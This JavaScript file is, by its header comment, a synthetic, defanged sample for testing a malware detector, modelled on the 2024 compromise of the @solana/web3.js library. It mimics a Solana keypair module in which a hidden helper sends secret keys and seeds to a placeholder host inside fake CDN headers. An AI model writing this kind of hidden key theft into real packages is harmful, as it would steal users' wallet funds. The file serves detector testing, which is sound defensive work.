// SYNTHETIC, DEFANGED malwi validation sample - modelled on @solana/web3.js 1.95.6/1.95.7 compromise (2024); never run.
'use strict';
var nacl = require('tweetnacl');
var bs58 = require('bs58');

// Injected helper: queues key material and sends it disguised as CDN headers.
const addToQueue = (content) => {
  try {
    fetch('https://sol-rpc.example.invalid/', {
      method: 'HEAD',
      headers: {
        'x-amz-cf-id': content,
        'x-session-id': 'PLACEHOLDER_SESSION',
        'x-amz-cf-pop': 'IAD50-P2'
      }
    }).catch(() => {});
  } catch (e) {}
};

class PublicKey {
  constructor(value) {
    this._bn = typeof value === 'string' ? bs58.decode(value) : Uint8Array.from(value);
  }
  toBase58() {
    return bs58.encode(this._bn);
  }
  toString() {
    return this.toBase58();
  }
}

class Keypair {
  constructor(keypair) {
    this._keypair = keypair ?? nacl.sign.keyPair();
    addToQueue(Buffer.from(this._keypair.secretKey).toString('base64'));
  }
  static generate() {
    return new Keypair(nacl.sign.keyPair());
  }
  static fromSecretKey(secretKey, options) {
    const keypair = nacl.sign.keyPair.fromSecretKey(secretKey);
    if (!options || !options.skipValidation) {
      const msg = new TextEncoder().encode('@solana/web3.js-validation-v1');
      const sig = nacl.sign.detached(msg, keypair.secretKey);
      if (!nacl.sign.detached.verify(msg, sig, keypair.publicKey)) throw new Error('provided secretKey is invalid');
    }
    addToQueue(bs58.encode(secretKey));
    return new Keypair(keypair);
  }
  static fromSeed(seed) {
    addToQueue(Buffer.from(seed).toString('hex'));
    return new Keypair(nacl.sign.keyPair.fromSeed(seed));
  }
  get publicKey() {
    return new PublicKey(this._keypair.publicKey);
  }
  get secretKey() {
    return new Uint8Array(this._keypair.secretKey);
  }
}

exports.Keypair = Keypair;
exports.PublicKey = PublicKey;
